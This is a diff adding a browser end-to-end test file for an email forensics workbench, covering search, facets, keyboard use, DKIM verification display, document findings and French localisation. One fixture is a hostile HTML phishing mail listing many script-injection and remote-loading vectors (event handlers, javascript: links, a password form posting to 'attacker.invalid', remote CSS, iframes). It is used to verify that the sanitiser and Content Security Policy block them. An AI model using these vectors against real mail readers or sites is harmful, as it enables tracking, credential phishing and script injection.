@@ -1,0 +1,311 @@
+// The workbench in a real browser (Debian's Chromium through playwright-core) over a case built at test
+// time from the sample dump, plus one hostile HTML message: search and facets, the verification panel,
+// a document's findings, French, the keyboard, and the proof that hostile mail runs and loads nothing.
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type Case, openCase } from '../src/core/case.ts';
+import { ingestIntoCase } from '../src/core/ingest-case.ts';
+import { buildSampleDump, type SampleManifest } from '../src/sample/build.ts';
+import { type RunningServer, serveCase } from '../src/server/serve.ts';
+import { launchChromium, outputPath } from './helpers/browser.ts';
+
+const ATTACKER = 'attacker.invalid';
+const VISIBLE = 'Texte visible de la facture piégée';
+
+/** Every way an HTML mail has of running something or fetching from its sender. */
+const HOSTILE_HTML = `<html><head>
+<base href="http://${ATTACKER}/">
+<meta http-equiv="refresh" content="0;url=http://${ATTACKER}/refresh">
+<link rel="stylesheet" href="http://${ATTACKER}/remote.css">
+<style>body { background: url(http://${ATTACKER}/style-block.png) } @import url(http://${ATTACKER}/import.css);</style>
+<script>alert('script')</script>
+</head>
+<body onload="alert('onload')">
+<p>${VISIBLE} (n° 2017-118).</p>
+<img src="http://${ATTACKER}/pixel.gif" onerror="alert('onerror')" width="1" height="1">
+<img srcset="http://${ATTACKER}/srcset.png 2x" src="http://${ATTACKER}/srcset-fallback.png">
+<p><a id="jslink" href="javascript:alert('js-link')" onclick="alert('onclick')">Régler la facture</a></p>
+<div style="background-image: url(http://${ATTACKER}/inline.png)">Fond</div>
+<form action="http://${ATTACKER}/submit" method="post"><input name="password"><button>Envoyer</button></form>
+<iframe src="http://${ATTACKER}/frame"></iframe>
+<object data="http://${ATTACKER}/object.swf"></object>
+<embed src="http://${ATTACKER}/embed.swf">
+<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-onload')"><script>alert('svg')</script><image href="http://${ATTACKER}/svg.png"/></svg>
+<video poster="http://${ATTACKER}/poster.png"></video>
+</body></html>`;
+
+const HOSTILE_EML = [
+  'From: Service facturation <factures@attacker.invalid>',
+  'To: h.marchand@en-avant.example',
+  'Subject: Facture impayée n° 2017-118',
+  'Date: Tue, 16 May 2017 09:12:00 +0200',
+  'Message-ID: <facture-2017-118@attacker.invalid>',
+  'MIME-Version: 1.0',
+  'Content-Type: text/html; charset=utf-8',
+  'Content-Transfer-Encoding: 8bit',
+  '',
+  HOSTILE_HTML,
+  '',
+].join('\r\n');
+
+let browser: Browser | null = null;
+let root: string;
+let sample: SampleManifest;
+let kase: Case;
+let server: RunningServer;
+let origin: string;
+
+beforeAll(async () => {
+  browser = await launchChromium('web-e2e');
+  if (!browser) return;
+  root = mkdtempSync(join(tmpdir(), 'crible-web-e2e-'));
+  sample = await buildSampleDump(root);
+  writeFileSync(join(sample.dumpDir, 'facture-piegee.eml'), HOSTILE_EML);
+  kase = openCase(join(root, 'case'), { create: true });
+  await ingestIntoCase(kase, [sample.dumpDir], {
+    keyFiles: [sample.keysFile],
+    disclosedFiles: [sample.disclosedFile],
+    workers: 1,
+  });
+  server = await serveCase(kase, { host: '127.0.0.1', port: 0 });
+  origin = server.url.replace(/\/$/, '');
+}, 180_000);
+
+afterAll(async () => {
+  await browser?.close();
+  if (!root) return;
+  await server?.close();
+  await kase?.store.close();
+  rmSync(root, { recursive: true, force: true });
+});
+
+/** The first hit's id for a query, through the API the pages use. */
+async function firstHit(q: string): Promise<number> {
+  const res = await fetch(`${origin}/api/search?q=${encodeURIComponent(q)}&limit=1`);
+  const body = (await res.json()) as { hits: { id: number }[] };
+  const id = body.hits[0]?.id;
+  if (id === undefined) throw new Error(`no hit for ${q}`);
+  return id;
+}
+
+/** The altered message whose signature fails (the other altered one passes, its shown subject unsigned). */
+async function failingSignatureMessage(): Promise<number> {
+  const res = await fetch(`${origin}/api/search?q=verdict:altered`);
+  for (const { id } of ((await res.json()) as { hits: { id: number }[] }).hits) {
+    const item = (await (await fetch(`${origin}/api/items/${id}`)).json()) as {
+      analyses: { analyser: string; result: { signatures: { result: string }[] } }[];
+    };
+    const dkim = item.analyses.find((a) => a.analyser === 'dkim');
+    if (dkim?.result.signatures.some((s) => s.result.startsWith('fail'))) return id;
+  }
+  throw new Error('no altered message with a failing signature');
+}
+
+async function withPage<T>(lang: 'en' | 'fr', use: (page: Page) => Promise<T>): Promise<T> {
+  const context = await browser!.newContext({ viewport: { width: 1280, height: 900 } });
+  // Once (a switch made in the page stays), and not in the sandboxed mail frame, which has no storage.
+  await context.addInitScript(
+    `if (window === window.top && !localStorage.getItem('crible.lang')) localStorage.setItem('crible.lang', ${JSON.stringify(lang)})`,
+  );
+  const page = await context.newPage();
+  try {
+    return await use(page);
+  } finally {
+    await context.close();
+  }
+}
+
+describe('the workbench in Chromium', () => {
+  test('search, then filter by a facet: the URL and the results change', async (ctx) => {
+    if (!browser) return ctx.skip();
+    await withPage('en', async (page) => {
+      await page.goto(`${origin}/search`);
+      const count = page.locator('.hits > p.muted').first();
+      await expect.poll(() => count.textContent()).toMatch(/^\d+ results$/);
+      const everything = Number((await count.textContent())!.split(' ')[0]);
+      await page.screenshot({ path: outputPath('search-en.png') });
+      await page.locator('.facet a[href*="verdict%3Aaltered"]').click();
+      await page.waitForURL(/\/search\?q=verdict%3Aaltered$/);
+      await expect.poll(() => count.textContent()).toBe('2 results');
+      expect(everything).toBeGreaterThan(2);
+      const badges = await page
+        .locator('.hit .badge')
+        .evaluateAll((els) => els.map((e) => e.getAttribute('data-verdict')));
+      expect(badges).toEqual(['altered', 'altered']);
+      // A typed query narrows again, and the facets follow the results.
+      await page.fill('input[name=q]', 'verdict:altered domain:en-avant.example');
+      await page.press('input[name=q]', 'Enter');
+      await page.waitForURL(/domain%3Aen-avant\.example/);
+      await expect.poll(() => page.locator('.facet a[href*="domain%3Apresse"]').count()).toBe(0);
+    });
+  });
+
+  test('the keyboard moves through the hits (j, k) and opens one (Enter)', async (ctx) => {
+    if (!browser) return ctx.skip();
+    await withPage('en', async (page) => {
+      await page.goto(`${origin}/search?q=${encodeURIComponent('type:email')}`);
+      await page.locator('.hit').nth(2).waitFor();
+      const selected = () =>
+        page.locator('.hit').evaluateAll((els) => els.findIndex((e) => e.classList.contains('selected')));
+      await page.locator('body').click({ position: { x: 5, y: 5 } });
+      expect(await selected()).toBe(0);
+      await page.keyboard.press('j');
+      await page.keyboard.press('j');
+      expect(await selected()).toBe(2);
+      await page.keyboard.press('k');
+      expect(await selected()).toBe(1);
+      const href = await page.locator('.hit').nth(1).locator('a.subject').getAttribute('href');
+      await page.keyboard.press('Enter');
+      await page.waitForURL(`${origin}${href}`);
+      await page.locator('article.message h1').waitFor();
+      // "/" goes back to the search box from anywhere on the search page.
+      await page.goBack();
+      await page.locator('.hit').first().waitFor();
+      await page.keyboard.press('/');
+      expect(await page.evaluate('document.activeElement?.getAttribute("name")')).toBe('q');
+    });
+  });
+
+  test('a message: its verification panel names the verdict, the signature and where the key came from', async (ctx) => {
+    if (!browser) return ctx.skip();
+    const id = await failingSignatureMessage();
+    await withPage('en', async (page) => {
+      await page.goto(`${origin}/messages/${id}`);
+      const panel = page.locator('section.verification');
+      await panel.waitFor();
+      expect(await panel.locator('h2 .badge').getAttribute('data-verdict')).toBe('altered');
+      const failed = panel.locator('.signature[class*="result-fail"]').first();
+      expect(await failed.locator('h3').textContent()).toMatch(
+        /^Signature \d: [\w.-]+\.example, selector \w+/,
+      );
+      expect(await failed.locator('p').first().textContent()).not.toBe('');
+      expect(await failed.textContent()).toContain(`from ${sample.keysFile}`);
+      await panel.locator('details summary').click();
+      expect(await panel.locator('dl.guide').textContent()).toContain('forgeable');
+      await page.screenshot({ path: outputPath('message-en.png') });
+    });
+  });
+
+  test('a document with findings shows each rule, its severity and its evidence', async (ctx) => {
+    if (!browser) return ctx.skip();
+    const id = await firstHit('finding:forensics.unknown-author');
+    await withPage('en', async (page) => {
+      await page.goto(`${origin}/documents/${id}`);
+      const finding = page.locator('.findings li[data-rule="unknown-author"]');
+      await finding.waitFor();
+      expect(await finding.locator('.sev').textContent()).toBe('medium');
+      expect(await finding.locator('dl.evidence').textContent()).toMatch(/author/i);
+      expect(await page.locator('.provenance').textContent()).not.toBe('');
+      await page.screenshot({ path: outputPath('document-en.png') });
+    });
+  });
+
+  test('the dashboard, and the switch to French changing the interface’s words', async (ctx) => {
+    if (!browser) return ctx.skip();
+    const messageId = await firstHit('verdict:altered');
+    const documentId = await firstHit('finding:forensics.unknown-author');
+    await withPage('en', async (page) => {
+      await page.goto(origin);
+      await page.locator('.dashboard, main h1').first().waitFor();
+      await page.screenshot({ path: outputPath('dashboard-en.png'), fullPage: true });
+      expect(await page.locator('header nav').textContent()).toContain('Search');
+      await page.locator('button.lang').click();
+      await expect.poll(() => page.locator('header nav').textContent()).toContain('Recherche');
+      expect(await page.locator('main h1').textContent()).toBe('L’affaire en un coup d’œil');
+      expect(await page.evaluate('document.documentElement.lang')).toBe('fr');
+      await page.screenshot({ path: outputPath('dashboard-fr.png'), fullPage: true });
+      // The choice is kept: the next page opened is French too.
+      await page.goto(`${origin}/search`);
+      await expect.poll(() => page.locator('form button[type=submit]').textContent()).toBe('Rechercher');
+      await page.screenshot({ path: outputPath('search-fr.png') });
+      await page.goto(`${origin}/messages/${messageId}`);
+      await expect.poll(() => page.locator('section.verification h2').textContent()).toMatch(/^Vérification/);
+      await page.screenshot({ path: outputPath('message-fr.png') });
+      await page.goto(`${origin}/documents/${documentId}`);
+      await expect.poll(() => page.locator('article.document h2').first().textContent()).toBe('Constats');
+      await page.screenshot({ path: outputPath('document-fr.png') });
+    });
+  });
+});
+
+describe('hostile HTML mail in Chromium', () => {
+  /** What a page did: every request, dialog, console line and uncaught error. */
+  function watch(page: Page) {
+    const seen = {
+      requests: [] as string[],
+      /** Why each request that did not complete failed (the browser's refusal, or the network's). */
+      failures: new Map<string, string>(),
+      dialogs: [] as string[],
+      console: [] as string[],
+      errors: [] as string[],
+    };
+    page.on('request', (r) => seen.requests.push(r.url()));
+    page.on('requestfailed', (r) => seen.failures.set(r.url(), r.failure()?.errorText ?? ''));
+    page.on('dialog', (d) => {
+      seen.dialogs.push(d.message());
+      void d.dismiss();
+    });
+    page.on('console', (m) => seen.console.push(m.text()));
+    page.on('pageerror', (e) => seen.errors.push(e.message));
+    return seen;
+  }
+
+  test('its message page runs nothing and loads nothing from outside, and still shows the text', async (ctx) => {
+    if (!browser) return ctx.skip();
+    const id = await firstHit('"facture impayée"');
+    await withPage('en', async (page) => {
+      const seen = watch(page);
+      await page.goto(`${origin}/messages/${id}`);
+      const frame = page.frameLocator('iframe.mail');
+      await frame.locator('p').first().waitFor();
+      expect(await frame.locator('body').textContent()).toContain(VISIBLE);
+      // A click on the link and on the former form's button: nothing may follow.
+      await frame.locator('a', { hasText: 'Régler la facture' }).click();
+      await page.waitForLoadState('networkidle');
+      await page.screenshot({ path: outputPath('message-hostile.png'), fullPage: true });
+      expect(seen.dialogs).toEqual([]);
+      expect(seen.errors).toEqual([]);
+      expect(seen.requests.filter((u) => !u.startsWith(`${origin}/`))).toEqual([]);
+      expect(seen.requests.filter((u) => u.includes(ATTACKER))).toEqual([]);
+      // Nothing was even tried: the sanitiser removed it before the policy had to refuse it.
+      expect(seen.console.filter((l) => l.includes(ATTACKER) || /Content Security Policy/i.test(l))).toEqual(
+        [],
+      );
+      expect(page.url()).toBe(`${origin}/messages/${id}`);
+    });
+  });
+
+  test('the frame’s policy alone stops the raw hostile HTML (if the sanitiser ever missed something)', async (ctx) => {
+    if (!browser) return ctx.skip();
+    const id = await firstHit('"facture impayée"');
+    const bodyUrl = `${origin}/api/items/${id}/body.html`;
+    const served = await fetch(bodyUrl);
+    const policy = served.headers.get('content-security-policy');
+    expect(policy).toContain("default-src 'none'");
+    await withPage('en', async (page) => {
+      const seen = watch(page);
+      // The same response headers as the real frame, over the unsanitised HTML.
+      await page.route(bodyUrl, (route) =>
+        route.fulfill({
+          status: 200,
+          headers: { 'Content-Type': 'text/html; charset=utf-8', 'Content-Security-Policy': policy! },
+          body: HOSTILE_HTML,
+        }),
+      );
+      await page.goto(`${origin}/messages/${id}`);
+      const frame = page.frameLocator('iframe.mail');
+      await frame.locator('p').first().waitFor();
+      await frame.locator('#jslink').click();
+      await page.waitForLoadState('networkidle');
+      expect(seen.dialogs).toEqual([]);
+      expect(seen.errors).toEqual([]);
+      // The browser asked for each remote thing and refused it itself: none reached the network.
+      const outside = seen.requests.filter((u) => !u.startsWith(`${origin}/`));
+      expect(outside.length).toBeGreaterThan(0);
+      expect(outside.map((u) => [u, seen.failures.get(u)])).toEqual(outside.map((u) => [u, 'csp']));
+    });
+  });
+});
